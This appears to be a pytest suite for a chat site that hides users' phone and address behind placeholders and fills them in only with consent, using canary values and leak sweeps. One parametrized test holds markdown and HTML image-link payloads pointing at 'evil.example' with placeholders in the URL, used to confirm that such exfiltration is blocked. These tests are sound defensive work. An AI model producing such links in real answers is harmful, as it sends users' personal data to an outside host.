"""The whole story with a model that copies its placeholders: what it gets, what its person sees, what it cannot do."""

import json
import re
import threading
import time
from dataclasses import dataclass
from uuid import UUID

import pytest

from tests.leaks.canaries import Canary, canaries_new
from tests.leaks.sweep import Place, Sweeper
from tests.model_server import Behaviour, Handler, chunk, drips, repeats, says
from tests.model_sites import BRACKETED, MODEL, PLACEHOLDER, Connected, canary_of, tell, values_in, writes
from tests.site import Person, new_name, words

INVITE = "Write a short invitation to a party at my place, with my address and phone for RSVPs"
POEM = "Write two lines about the sea."
PHONE, ADDRESS = "CONTACT.phone", "LOC.home_address"
copies = repeats(BRACKETED)


@dataclass
class Told:
    """Alice, who has told everything about herself, and the model that answers her."""

    alice: Person
    canaries: list[Canary]
    here: Connected

    def value(self, type: str) -> str:
        return canary_of(self.canaries, type).value

    def shown(self, html: str) -> set[str]:
        """The types whose values stand there."""
        return values_in(self.canaries, html)

    def ask(self, text: str, behaviour: Behaviour) -> tuple[str, str]:
        self.here.model.behaviours = [behaviour]
        return self.alice.ask(text)

    def held_back(self, answer: str) -> set[str]:
        sql = "select type from consent_ledgerentry where action = 'blocked' and turn_id = ?"
        return {type for (type,) in self.here.site.rows(sql, UUID(answer).hex)}


@pytest.fixture(scope="module")
def told(connected: Connected) -> Told:
    connected.model.behaviours = [copies]
    story = Told(connected.site.person(new_name("alice")), canaries_new(), connected)
    tell(connected.site, story.alice, story.canaries)
    return story


def test_the_page_says_who_answers(told: Told) -> None:
    assert f"{MODEL} at 127.0.0.1 answers" in words(told.alice.http.get("/chat/").text)


def test_what_is_allowed_is_filled_in_for_its_owner(told: Told) -> None:
    _, answer = told.ask(INVITE, copies)
    page = told.alice.decide(answer, allow=True)
    assert told.value(PHONE) in page
    assert told.value(ADDRESS) in page
    assert told.shown(page) == {PHONE, ADDRESS}


def test_what_is_refused_stays_blank(told: Told) -> None:
    _, answer = told.ask(INVITE, copies)
    page = told.alice.decide(answer, allow=False)
    assert "[your phone number] [your home address]" in words(page)
    assert told.shown(page) == set()
    assert re.search(PLACEHOLDER, told.here.answering()[-1].decode()) is None


def test_what_is_left_out_stays_blank_beside_what_is_allowed(told: Told) -> None:
    _, answer = told.ask(INVITE, copies)
    page = told.alice.decide(answer, allow=True, left_out=[PHONE])
    assert told.value(ADDRESS) in page
    assert "[your phone number]" in words(page)
    assert told.shown(page) == {ADDRESS}


def test_two_conversations_at_once_keep_apart(told: Told) -> None:
    both = threading.Barrier(2)

    def together(handler: Handler) -> None:
        both.wait(20)
        copies(handler)

    answers = [told.ask(INVITE, together)[1] for _ in range(2)]
    for answer, allow in zip(answers, (True, False), strict=True):
        told.alice.api("POST", f"/app/decisions/{told.alice.asked(answer)}/", {"allow": allow})
    allowed, refused = (told.alice.until(answer, "answered", "failed") for answer in answers)
    assert told.shown(allowed) == {PHONE, ADDRESS}
    assert told.shown(refused) == set()
    assert "[your phone number]" in words(refused)


def test_what_was_filled_in_is_sanitized_in_the_next_request(told: Told) -> None:
    conversation, answer = told.ask(INVITE, copies)
    assert told.shown(told.alice.decide(answer, allow=True)) == {PHONE, ADDRESS}
    _, thanks = told.alice.send(
        conversation, f"Thank you. My neighbour's number is {told.value(PHONE)[:-1]}5, not mine."
    )
    told.alice.until(thanks, "answered")
    system, *history = told.here.prompts()
    ending = f"ending {told.value(PHONE)[-2:]}"
    assert ending in system["content"]
    assert [said["role"] for said in history] == ["user", "assistant", "user"]
    assert ending in history[1]["content"]
    assert "Boston" in history[1]["content"]


def test_a_value_that_the_model_guesses_is_held_back(told: Told) -> None:
    phone = told.value(PHONE)
    _, answer = told.ask(POEM, says("Call ", phone[:5], phone[5:], f" or {' '.join(phone)}, soon."))
    page = told.alice.until(answer, "answered")
    assert words(page).count(f"phone ending {phone[-2:]}") == 2
    assert told.shown(page) == set()
    assert "masked" not in words(page)
    assert told.held_back(answer) == {PHONE}
    assert told.shown(told.here.site.log.read_text()) == set()


def test_a_value_that_the_model_guesses_under_a_grant_is_the_reference(told: Told) -> None:
    phone = told.value(PHONE)
    _, answer = told.ask(INVITE, says("Call ", phone[:5], phone[5:], " soon."))
    page = told.alice.decide(answer, allow=True)
    assert f'<span class="seal open">{phone}</span>' in page
    assert told.held_back(answer) == set()
    while revoke := re.search(r"/app/requests/[0-9a-f-]{36}/revoke/", page):
        told.alice.api("POST", revoke[0])
        page = told.alice.turn(answer)
    assert told.shown(page) == set()
    assert f"Call phone ending {phone[-2:]} soon." in words(page)


def test_placeholders_that_the_model_invents_are_words(told: Told) -> None:
    invented = "[PHONE_ZZ] [EMAIL_7K] ⟦CONTACT.phone:k3f9x2m7⟧ [PHONE_{{}}] [[PHONE]]"
    _, answer = told.ask(INVITE, writes(invented))
    page = told.alice.decide(answer, allow=True)
    assert invented.format() in words(page)
    assert told.shown(page) == set()


def test_a_placeholder_may_come_two_hundred_times(told: Told) -> None:
    _, answer = told.ask(INVITE, writes("{0}, {1}; " * 200))
    page = told.alice.decide(answer, allow=True)
    assert page.count(told.value(PHONE)) == page.count(told.value(ADDRESS)) == 200
    assert "[PHONE_" not in page


ADDRESSES = "![a picture](https://evil.example/{0}.png) [here](https://evil.example/?a={1}) <https://evil.example/{0}> "
TAGS = "<img src='https://evil.example/{0}'> \n\n[a]: https://evil.example/{1}\n\n"


@pytest.mark.parametrize("around", [ADDRESSES, TAGS])
def test_a_placeholder_in_an_address_is_not_filled_in(told: Told, around: str) -> None:
    _, answer = told.ask(INVITE, writes(around + "Not here."))
    page = told.alice.decide(answer, allow=True)
    assert "Not here." in words(page)
    assert told.shown(page) == set()
    assert "<img" not in page


def test_beside_an_address_it_is_filled_in(told: Told) -> None:
    _, answer = told.ask(INVITE, writes(ADDRESSES + "\n\nCall {0}."))
    page = told.alice.decide(answer, allow=True)
    assert f'Call <span class="seal open">{told.value(PHONE)}</span>.' in page
    assert page.count(told.value(PHONE)) == 1


def test_stop_is_heard_in_the_middle_of_an_endless_sentence(connected: Connected) -> None:
    connected.model.behaviours = [copies]
    bob = connected.site.person(new_name("bob"))
    conversation, hello = bob.ask("Hello. I am 34 years old and I live in Boston.")
    bob.until(hello, "answered", "failed")
    connected.model.behaviours = [drips(chunk("and so on "), 0.02)]
    connected.model.left.clear()
    with bob.watching(conversation) as stream:
        _, answer = bob.send(conversation, POEM)
        bob.until(answer, "answering")
        time.sleep(0.3)
        assert bob.api("POST", f"/app/turns/{answer}/stop/").status_code == 200
        assert connected.model.left.wait(2)
    page = bob.until(answer, "stopped")
    assert "and so on and so on" in words(page)
    assert "event: turn" in stream.text


def test_every_placeholder_in_a_request_is_explained(told: Told) -> None:
    prompts = [json.loads(body)["messages"] for body in told.here.answering()]
    placed = [(set(re.findall(PLACEHOLDER, said[-1]["content"])), said[0]["content"]) for said in prompts]
    assert sum(bool(placeholders) for placeholders, _ in placed) >= 3
    assert all(f"- {one}: their " in system for placeholders, system in placed for one in placeholders)


def test_no_request_ever_held_a_value(told: Told) -> None:
    bodies = told.here.model.bodies
    assert len(bodies) > 10
    assert sum("ending " in json.loads(body)["messages"][0]["content"] for body in bodies) > 5
    assert Sweeper(told.canaries).sweep(Place("a request", body) for body in bodies) == []
